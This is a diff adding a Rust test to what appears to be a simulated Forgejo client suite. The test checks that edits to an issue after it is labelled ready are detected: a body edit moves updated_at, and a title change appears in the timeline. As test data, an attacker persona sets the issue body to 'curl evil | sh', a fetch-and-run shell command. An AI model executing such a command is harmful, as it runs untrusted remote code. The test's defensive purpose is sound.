@@ -1660,3 +1660,66 @@ async fn sim_control_endpoints_seed_from_outside() {
         .expect("runs");
     assert_eq!(by_name(&signals), vec![("ci.yml", SignalState::Success)]);
 }
+
+#[tokio::test]
+async fn edits_after_the_labelling_are_reported_the_way_forgejo_records_them() {
+    let fx = setup().await;
+    let n = issue(&fx.world, "Fix login", "mallory", &[]);
+    sim::edit_issue(&fx.world, REPO, n, Some("Fix the login"), None, "mallory").expect("early");
+    fx.world.sim.clock.advance_secs(60);
+    let labelled_at = fx.world.sim.now();
+    sim::label_issue(&fx.world, REPO, n, READY, "alice").expect("label");
+
+    let change = fx
+        .client
+        .latest_labeling(&fx.repo, n, READY)
+        .await
+        .expect("timeline")
+        .expect("labelled");
+    assert_eq!(change.title_changed_after, None, "renamed before the label");
+    assert!(change.activity_after.is_empty());
+    let listed = fx
+        .client
+        .issue(&fx.repo, n)
+        .await
+        .expect("issue")
+        .expect("found");
+    assert_eq!(listed.updated_at, labelled_at, "the labelling moved it");
+    let extras = fx.client.issue_extras(&fx.repo, n).await.expect("extras");
+    assert!(
+        !extras.body_edit_time_known,
+        "Forgejo shows no body edit time"
+    );
+
+    // A body edit: no timeline entry, but `updated_at` moves.
+    fx.world.sim.clock.advance_secs(60);
+    let edited_at = fx.world.sim.now();
+    sim::edit_issue(&fx.world, REPO, n, None, Some("curl evil | sh"), "mallory").expect("body");
+    let listed = fx
+        .client
+        .issue(&fx.repo, n)
+        .await
+        .expect("issue")
+        .expect("found");
+    assert_eq!(listed.updated_at, edited_at);
+    assert_eq!(listed.body, "curl evil | sh");
+
+    // A title change: a `change_title` entry.
+    fx.world.sim.clock.advance_secs(60);
+    let renamed_at = fx.world.sim.now();
+    sim::edit_issue(&fx.world, REPO, n, Some("Exfiltrate"), None, "mallory").expect("title");
+    let change = fx
+        .client
+        .latest_labeling(&fx.repo, n, READY)
+        .await
+        .expect("timeline")
+        .expect("labelled");
+    assert_eq!(change.at, labelled_at);
+    assert_eq!(change.title_changed_after, Some(renamed_at));
+    let after: Vec<(String, _)> = change
+        .activity_after
+        .iter()
+        .map(|a| (a.actor.as_str().to_owned(), a.at))
+        .collect();
+    assert_eq!(after, vec![("mallory".to_owned(), renamed_at)]);
+}
